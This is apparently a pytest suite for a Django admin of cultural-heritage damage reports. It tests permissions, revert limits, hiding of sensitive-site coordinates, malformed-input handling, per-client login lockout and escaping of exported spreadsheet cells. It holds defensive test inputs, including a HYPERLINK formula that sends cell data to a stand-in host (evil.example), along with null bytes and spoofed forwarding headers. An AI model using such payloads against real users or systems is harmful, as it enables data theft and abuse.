"""
The admin keeps the record's trust: no write without the change permission (history and revert included), no
revert of what changes only through its own path, no 500 for malformed input, no formula in an exported cell, and
no lockout of one account by everyone behind a proxy.
"""

import io

import openpyxl
import pytest
from django.contrib.auth.models import Permission
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from heritage.records.models import Citation, DamageReport, Site, Source, Threat
from heritage.records.services import change_status

from .admin_helpers import PASSWORD, make_user
from .test_history import form_data

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'


@pytest.fixture
def report(palmyra):
    return DamageReport.objects.get(slug="palmyra-defaced-by-isis")


def first_version_url(record):
    opts = record._meta
    version = record.history.earliest()
    return reverse(f"admin:{opts.app_label}_{opts.model_name}_simple_history", args=[record.pk, version.history_id])


# --- 1. History: posting a version back needs the change permission ---------------------------------------------


def test_a_researcher_cannot_change_a_record_by_posting_its_history_form(client, report):
    """The version page opens for a researcher (view), but posting it back is a 403 and changes nothing."""
    curator = make_user("cora", group="Curator")
    client.force_login(curator)
    url = reverse("admin:records_damagereport_change", args=[report.pk])
    client.post(url, {**form_data(client.get(url)), "description": "First edit."})
    client.post(url, {**form_data(client.get(url)), "description": "Second edit."})
    report.refresh_from_db()
    version = first_version_url(report)

    client.force_login(make_user("rita", group="Researcher"))
    page = client.get(version)
    assert page.status_code == 200
    assert "Revert" not in page.content.decode().split("<form")[-1]  # no button offered
    before = (report.description, report.version, DamageReport.history.count())
    data = {**form_data(page), "description": "A researcher's edit.", "severity": "destroyed"}
    assert client.post(version, data).status_code == 403
    report.refresh_from_db()
    assert (report.description, report.version, DamageReport.history.count()) == before


def test_a_deleted_record_is_not_recreated_from_its_history(client, palmyra):
    """Posting a deleted threat's old version back is refused, even for an administrator; nothing is created."""
    threat = Threat.objects.get()
    admin = make_user("ada", superuser=True)
    client.force_login(admin)
    url = reverse("admin:records_threat_change", args=[threat.pk])
    client.post(url, {**form_data(client.get(url)), "consequence": "Edited."})
    version = first_version_url(threat)
    page = client.get(version)
    assert page.status_code == 200
    threat.delete()
    response = client.post(version, form_data(page))
    assert response.status_code == 302
    assert not Threat.objects.filter(pk=threat.pk).exists()
    assert "deleted" in client.get(response["Location"]).content.decode()


@pytest.mark.parametrize("suffix", ["history/abc/", "history/%00/", "history/1/", "abc/history/", "%00/history/1/"])
def test_malformed_history_addresses_are_404s(client, report, suffix):
    client.force_login(make_user("cora", group="Curator"))
    base = reverse("admin:records_damagereport_changelist")
    target = f"{report.pk}/{suffix}" if suffix.startswith("history") else suffix
    assert client.get(base + target).status_code in (400, 404)


# --- 2. Reverting restores what the form edits, nothing else --------------------------------------------------


def test_reverting_a_site_never_clears_its_sensitivity_flag(client, palmyra):
    """A version from before the site was flagged sensitive brings back its old description, not the flag."""
    client.force_login(make_user("cora", group="Curator"))
    url = reverse("admin:records_site_change", args=[palmyra.pk])
    client.post(url, {**form_data(client.get(url)), "description": "Before it was flagged."})
    site = Site.objects.get(pk=palmyra.pk)
    site.latitude, site.longitude, site.location_certainty = "34.551234", "38.268765", "high"
    site.is_sensitive = True
    site.save()
    version = first_version_url(site)
    response = client.post(version, form_data(client.get(version)))
    assert response.status_code == 302
    site.refresh_from_db()
    assert site.description == "Before it was flagged."
    assert site.is_sensitive  # though the version reverted to was not


def test_reverting_a_report_keeps_its_workflow_status_and_who_changed_it(client, report):
    """A version from before verification brings back its text; the status and its audit fields stay as they are."""
    curator = make_user("cora", group="Curator")
    client.force_login(curator)
    url = reverse("admin:records_damagereport_change", args=[report.pk])
    client.post(url, {**form_data(client.get(url)), "description": "Draft wording."})
    report = change_status(record=report, status="disputed", user=curator, reason="Doubtful.")
    version = first_version_url(report)
    response = client.post(version, {**form_data(client.get(version)), "status": "verified"})
    assert response.status_code == 302
    reverted = DamageReport.objects.get(pk=report.pk)
    assert reverted.description == "Draft wording."
    assert (reverted.status, reverted.status_changed_by, reverted.status_changed_at) == (
        "disputed",
        curator,
        report.status_changed_at,
    )


# --- 5. Exports: no formula cells -----------------------------------------------------------------------------


def export(client, model, fmt):
    """The admin's export of `model` in `fmt` (0: CSV, 1: XLSX), as its export form posts it (every column)."""
    url = reverse(f"admin:records_{model}_export")
    form = client.get(url).context["form"]
    data = {name: field.initial for name, field in form.fields.items() if field.initial not in (None, False)}
    response = client.post(url, {**data, "format": str(fmt), "resource": "0"})
    assert response.status_code == 200 and response.get("Content-Disposition"), response.content[:500]
    return response.content


def test_exported_cells_never_run_as_formulas_and_import_back_unchanged(client, report):
    """A description that is a formula is text in the CSV and the XLSX, and the file imports back unchanged."""
    DamageReport.objects.filter(pk=report.pk).update(description=FORMULA)
    client.force_login(make_user("cora", group="Curator"))
    csv_text = export(client, "damagereport", 0).decode("utf-8-sig")
    assert "'" + FORMULA.replace('"', '""') in csv_text
    workbook = openpyxl.load_workbook(io.BytesIO(export(client, "damagereport", 1)))
    cells = [cell for row in workbook.active.iter_rows() for cell in row if "HYPERLINK" in str(cell.value)]
    assert cells and all(cell.data_type == "s" and cell.value == "'" + FORMULA for cell in cells)

    for fmt, content in ((0, export(client, "damagereport", 0)), (1, export(client, "damagereport", 1))):
        name = "reports.csv" if fmt == 0 else "reports.xlsx"
        response = client.post(
            reverse("admin:records_damagereport_import"),
            {"format": str(fmt), "resource": "0", "import_file": SimpleUploadedFile(name, content)},
        )
        assert response.status_code == 200
        result = response.context["result"]
        assert not result.has_errors() and not result.has_validation_errors(), result.invalid_rows
        assert {row.import_type for row in result.rows} == {"skip"}
    assert DamageReport.objects.get(pk=report.pk).description == FORMULA


@pytest.mark.parametrize("model", ["site", "damagereport", "occupation"])
def test_an_unchanged_xlsx_export_imports_back(client, palmyra, model):
    """Empty cells of text columns (a description) come back as empty text, not as a database error."""
    client.force_login(make_user("cora", group="Curator"))
    content = export(client, model, 1)
    response = client.post(
        reverse(f"admin:records_{model}_import"),
        {"format": "1", "resource": "0", "import_file": SimpleUploadedFile("export.xlsx", content)},
    )
    result = response.context["result"]
    assert not result.has_errors() and not result.has_validation_errors()
    assert {row.import_type for row in result.rows} == {"skip"}


# --- 9. A verified report keeps a citation --------------------------------------------------------------------


def test_a_verified_report_cannot_drop_its_last_citation_in_the_admin(client, report):
    curator = make_user("cora", group="Curator")
    change_status(record=report, status="verified", user=curator)
    client.force_login(curator)
    url = reverse("admin:records_damagereport_change", args=[report.pk])
    data = form_data(client.get(url))
    data.pop("citations")
    response = client.post(url, data)
    assert response.status_code == 200
    assert "citations" in response.context["adminform"].form.errors
    assert report.citations.exists()


def test_a_verified_report_cannot_drop_its_last_citation_by_reverting(client, report):
    """Reverting to a version from before verification: the citations are judged by the status kept, verified."""
    curator = make_user("cora", group="Curator")
    client.force_login(curator)
    url = reverse("admin:records_damagereport_change", args=[report.pk])
    client.post(url, {**form_data(client.get(url)), "description": "Before verification."})
    report = change_status(record=report, status="verified", user=curator)
    version = first_version_url(report)
    data = form_data(client.get(version))
    data.pop("citations")
    response = client.post(version, data)
    assert response.status_code == 200
    assert "citations" in response.context["adminform"].form.errors
    report.refresh_from_db()
    assert report.status == "verified" and report.citations.exists()


def test_the_only_citation_of_a_verified_report_is_not_deleted(client, report):
    """The confirmation page names the report it would leave unsupported, and confirming deletes nothing."""
    admin = make_user("ada", superuser=True)
    report.citations.set(report.citations.all()[:1])
    change_status(record=report, status="verified", user=admin)
    citation = report.citations.get()
    client.force_login(admin)
    url = reverse("admin:records_citation_delete", args=[citation.pk])
    page = client.get(url)
    assert "Verified damage report (its only citation)" in page.content.decode()
    client.post(url, {"post": "yes"})
    assert Citation.objects.filter(pk=citation.pk).exists()


# --- 10. A researcher reads citations -------------------------------------------------------------------------


def test_a_researcher_reads_a_citations_page(client, palmyra):
    client.force_login(make_user("rita", group="Researcher"))
    citation = Citation.objects.first()
    response = client.get(reverse("admin:records_citation_change", args=[citation.pk]))
    assert response.status_code == 200
    assert citation.quote in response.content.decode()


# --- 12. Malformed parameters and form values are refused, not 500s -------------------------------------------


@pytest.mark.parametrize(
    "query",
    [
        "records/damagereport/?status=%00",
        "records/site/?site__country=%00",
        "records/damagereport/?site__country=%00",
        "records/damagereport/?occurred_earliest__year=99999999999",
        "records/damagereport/?occurred_earliest__year=9999",
        "records/damagereport/?occurred_earliest__year=2015&occurred_earliest__month=99",
        "records/damagereport/?q=%00",
        "records/damagereport/add/?site=abc",
        "records/damagereport/add/?site=%00",
        "records/damagereport/add/?site=99999999999999999999999",
        "records/damagereport/add/?citations=abc",
        "autocomplete/?app_label=records&model_name=damagereport&field_name=site&term=%00",
    ],
)
def test_malformed_admin_parameters_are_not_server_errors(client, palmyra, query):
    client.force_login(make_user("cora", group="Curator"))
    response = client.get(f"/admin/{query}")
    assert response.status_code < 500


@pytest.mark.parametrize("field", ["site", "occupation", "citations", "perpetrator"])
@pytest.mark.parametrize("value", ["abc", "\x00", "99999999999999999999999", "-1"])
def test_malformed_form_values_are_field_errors(client, palmyra, field, value):
    from .test_admin_forms import damage_report_data

    client.force_login(make_user("cora", group="Curator"))
    before = DamageReport.objects.count()
    response = client.post(reverse("admin:records_damagereport_add"), {**damage_report_data(palmyra), field: value})
    assert response.status_code == 200
    assert field in response.context["adminform"].form.errors
    assert DamageReport.objects.count() == before


# --- 13. The dossier map of a sensitive site ------------------------------------------------------------------


@pytest.fixture
def sensitive_palmyra(palmyra):
    Site.objects.filter(pk=palmyra.pk).update(
        latitude="34.551234", longitude="38.268765", location_certainty="high", is_sensitive=True
    )
    return Site.objects.get(pk=palmyra.pk)


def staff_who_may(*codenames):
    user = make_user("stan")
    user.user_permissions.set(Permission.objects.filter(codename__in=codenames))
    return user


def test_the_dossier_map_shows_the_public_point_to_those_who_may_not_see_the_exact_one(
    client, sensitive_palmyra, settings
):
    settings.MAP_TILE_URL = "https://tiles.example.org/{z}/{x}/{y}.png"
    client.force_login(staff_who_may("change_site"))
    page = client.get(reverse("admin:records_site_change", args=[sensitive_palmyra.pk])).content.decode()
    assert 'data-latitude="34.600000"' in page and 'data-longitude="38.300000"' in page
    assert 'data-approximate="true"' in page
    assert "34.551234" not in page and "38.268765" not in page
    assert 'data-tile-url="https://tiles.example.org/{z}/{x}/{y}.png"' in page

    client.force_login(make_user("rita", group="Researcher"))
    page = client.get(reverse("admin:records_site_change", args=[sensitive_palmyra.pk])).content.decode()
    assert 'data-latitude="34.551234"' in page and 'data-approximate="false"' in page


def test_saving_a_sensitive_site_without_seeing_its_location_keeps_the_exact_one(client, sensitive_palmyra):
    """The form shows the public point read-only; saving the rest of the form does not write it over the exact one."""
    client.force_login(staff_who_may("change_site"))
    url = reverse("admin:records_site_change", args=[sensitive_palmyra.pk])
    page = client.get(url)
    assert "latitude" not in page.context["adminform"].form.fields
    response = client.post(url, {**form_data(page), "description": "Edited by a curator who cannot see it."})
    assert response.status_code == 302
    site = Site.objects.get(pk=sensitive_palmyra.pk)
    assert (str(site.latitude), str(site.longitude)) == ("34.551234", "38.268765")
    assert site.description == "Edited by a curator who cannot see it."


def test_the_site_list_cannot_be_filtered_by_coordinates_by_those_who_may_not_see_them(client, sensitive_palmyra):
    client.force_login(staff_who_may("change_site"))
    response = client.get(reverse("admin:records_site_changelist") + "?latitude__gte=34.55")
    assert response.status_code == 400  # Django's answer to a lookup the admin does not allow


# --- 14. Dates the calendar does not have ---------------------------------------------------------------------


def test_the_29th_of_february_of_a_common_year_is_refused(client, palmyra):
    from .test_admin_forms import damage_report_data

    client.force_login(make_user("cora", group="Curator"))
    response = client.post(
        reverse("admin:records_damagereport_add"), damage_report_data(palmyra, occurred="2015-02-29")
    )
    assert response.status_code == 200
    assert "occurred" in response.context["adminform"].form.errors


def test_a_sources_publication_date_is_edtf(client, palmyra):
    client.force_login(make_user("cora", group="Curator"))
    source = Source.objects.get()
    url = reverse("admin:records_source_change", args=[source.pk])
    response = client.post(url, {**form_data(client.get(url)), "published": "last spring"})
    assert response.status_code == 200
    assert "published" in response.context["adminform"].form.errors


# --- 15. The login lockout is per client, behind a proxy too --------------------------------------------------


LOGIN = "/admin/login/?next=/admin/"


def test_behind_a_proxy_one_client_cannot_lock_an_account_out_for_everyone(client, settings):
    """With TRUSTED_PROXIES=1 every request comes from the proxy's address; the lockout counts the client's."""
    settings.TRUSTED_PROXIES = 1
    make_user("curator")
    proxy = {"REMOTE_ADDR": "10.0.0.1"}
    for _ in range(6):
        client.post(LOGIN, {"username": "curator", "password": "guess"}, HTTP_X_FORWARDED_FOR="198.51.100.7", **proxy)
    assert (
        client.post(
            LOGIN, {"username": "curator", "password": PASSWORD}, HTTP_X_FORWARDED_FOR="198.51.100.7", **proxy
        ).status_code
        == 429
    )
    other = client.post(
        LOGIN, {"username": "curator", "password": PASSWORD}, HTTP_X_FORWARDED_FOR="203.0.113.5", **proxy
    )
    assert other.status_code == 302


def test_without_proxies_a_forwarded_for_header_does_not_dodge_the_lockout(client, settings):
    """With no trusted proxy, X-Forwarded-For is the client's own word: changing it does not make a new client."""
    settings.TRUSTED_PROXIES = 0
    make_user("curator")
    for number in range(6):
        client.post(
            LOGIN,
            {"username": "curator", "password": "guess"},
            HTTP_X_FORWARDED_FOR=f"192.0.2.{number}",
            REMOTE_ADDR="203.0.113.9",
        )
    locked = client.post(
        LOGIN,
        {"username": "curator", "password": PASSWORD},
        HTTP_X_FORWARDED_FOR="192.0.2.99",
        REMOTE_ADDR="203.0.113.9",
    )
    assert locked.status_code == 429


# --- 16. A policy for what pages may load --------------------------------------------------------------------


def test_pages_carry_a_content_security_policy(client, palmyra):
    client.force_login(make_user("cora", group="Curator"))
    for url in ("/admin/", reverse("admin:records_site_change", args=[palmyra.pk]), "/api/v1/docs/", "/api/v1/sites/"):
        policy = client.get(url)["Content-Security-Policy"]
        assert "script-src 'self'" in policy and "object-src 'none'" in policy and "frame-ancestors 'none'" in policy


# --- 17. Drafts in the admin ----------------------------------------------------------------------------------


def test_staff_who_may_not_view_reports_do_not_see_drafts(client, report):
    DamageReport.objects.filter(pk=report.pk).update(status="draft")
    client.force_login(staff_who_may("change_damagereport"))
    assert client.get(reverse("admin:records_damagereport_change", args=[report.pk])).status_code == 302
    changelist = client.get(reverse("admin:records_damagereport_changelist"))
    assert report.slug not in changelist.content.decode()
    assert client.get(reverse("admin:records_damagereport_history", args=[report.pk])).status_code == 404


def test_importing_needs_add_change_and_view(client, palmyra):
    url = reverse("admin:records_site_import")
    client.force_login(staff_who_may("add_site"))
    assert client.get(url).status_code == 403
    client.force_login(make_user("cora", group="Curator"))
    assert client.get(url).status_code == 200
